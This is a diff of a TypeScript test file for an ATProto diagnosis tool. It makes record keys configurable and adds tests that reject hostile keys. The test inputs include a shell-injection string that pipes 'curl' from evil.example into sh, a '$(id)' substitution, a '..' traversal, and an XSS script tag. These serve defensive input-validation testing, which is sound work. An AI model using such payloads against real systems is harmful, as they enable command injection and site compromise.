@@ -5,8 +5,9 @@ import { PdsReader } from '../../../src/atproto/node/repository/pds-reader.ts';
 import { RepositoryError } from '../../../src/atproto/repository/repository-error.ts';
 
 const DID = 'did:plc:aaaaaaaaaaaaaaaaaaaaaaaa';
-const PUBLICATION = `at://${DID}/site.standard.publication/p`;
-const LINK = 'https://victim.example.com/essay';
+const ACCOUNT = `at://${DID}`;
+const HOME = 'https://victim.example.com';
+const LINK = `${HOME}/essay`;
 const DEPTH = 20_000;
 /** What stands where a text belongs, as JSON. `String` of either throws. */
 const NO_WORDS = [
@@ -39,22 +40,28 @@ const PLACES: readonly (readonly [string, Answers])[] = [
   ['a backlink', { backlink: { did: HERE, rkey: HERE } }],
 ];
 
-/** A directory, a backlink index and a PDS that answer with it. */
-function network({ document, publication, article, backlink }: Answers, noWords: string): typeof fetch {
+/** A directory, a backlink index and a PDS that answer with it; each record has the key. */
+function network({ document, publication, article, backlink }: Answers, noWords: string, key = 'p'): typeof fetch {
   const service = [{ id: '#atproto_pds', serviceEndpoint: 'https://pds.example.com' }];
   const publications = [
-    { uri: PUBLICATION, cid: 'c', value: { url: 'https://victim.example.com', name: 'x', ...publication } },
+    { uri: `${ACCOUNT}/site.standard.publication/${key}`, cid: 'c', value: { url: HOME, name: 'x', ...publication } },
   ];
   const documents = [
     {
-      uri: `at://${DID}/site.standard.document/d`,
+      uri: `${ACCOUNT}/site.standard.document/${key}`,
       cid: 'c',
-      value: { site: PUBLICATION, title: 'x', path: '/other', publishedAt: '2026-01-01T00:00:00Z', ...article },
+      value: {
+        site: publications[0]?.uri,
+        title: 'x',
+        path: '/other',
+        publishedAt: '2026-01-01T00:00:00Z',
+        ...article,
+      },
     },
   ];
   const answer = ({ hostname, pathname, searchParams }: URL): object | null => {
     if (hostname === 'plc.directory') return { id: DID, alsoKnownAs: [], service, ...document };
-    if (pathname.endsWith('getBacklinks')) return { records: [{ did: DID, rkey: 'p', ...backlink }] };
+    if (pathname.endsWith('getBacklinks')) return { records: [{ did: DID, rkey: key, ...backlink }] };
     if (!pathname.endsWith('listRecords')) return null;
     return { records: searchParams.get('collection') === 'site.standard.document' ? documents : publications };
   };
@@ -95,3 +102,24 @@ describe.each(NO_WORDS)('%s where a text belongs', (_, noWords) => {
     }
   });
 });
+
+// A key of a record goes into commands that are copied into a shell, into tags that are copied into a page, and into addresses.
+// biome-ignore lint/suspicious/noTemplateCurlyInString: it is a shell's
+describe.each(['x;curl${IFS}evil.example|sh', '$(id)', '..', '"><script>alert(1)</script>', `k${'k'.repeat(100_000)}`])(
+  'a record with the key %.30s, which is none',
+  (key) => {
+    const get = network({ article: { path: '/essay' } }, '', key);
+
+    it('stands in no advice of a diagnosis', async () => {
+      for (const link of [LINK, HOME]) {
+        const said = JSON.stringify(await diagnose({ fetch: get, resolveTxt: async () => [] }, link));
+        expect(said).not.toContain(`/${JSON.stringify(key).slice(1, -1)}`);
+      }
+    });
+
+    it('is no record that an AppView is asked about', async () => {
+      const options = { fetch: get, cache: { get: () => undefined, set: () => undefined } };
+      for (const link of [LINK, HOME]) expect(await fetchRecordUris(options, link)).toEqual([]);
+    });
+  },
+);
